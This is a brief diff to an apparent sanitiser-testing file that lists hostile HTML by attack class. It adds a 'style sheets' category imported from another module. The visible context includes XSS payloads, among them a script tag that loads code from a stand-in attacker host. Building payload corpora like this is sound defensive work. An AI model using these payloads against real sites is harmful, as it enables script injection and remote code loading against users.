@@ -1,7 +1,10 @@
 // Hostile HTML by class of attack: what has got through one sanitiser or browser or another over the years.
 // Every payload tries to call alert, to load something or to leave its box.
 
+import { STYLED_PAGES } from './style-vectors.ts';
+
 export const VECTORS: Record<string, string[]> = {
+  'style sheets': STYLED_PAGES,
   scripts: [
     '<script>alert(1)</script>',
     '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
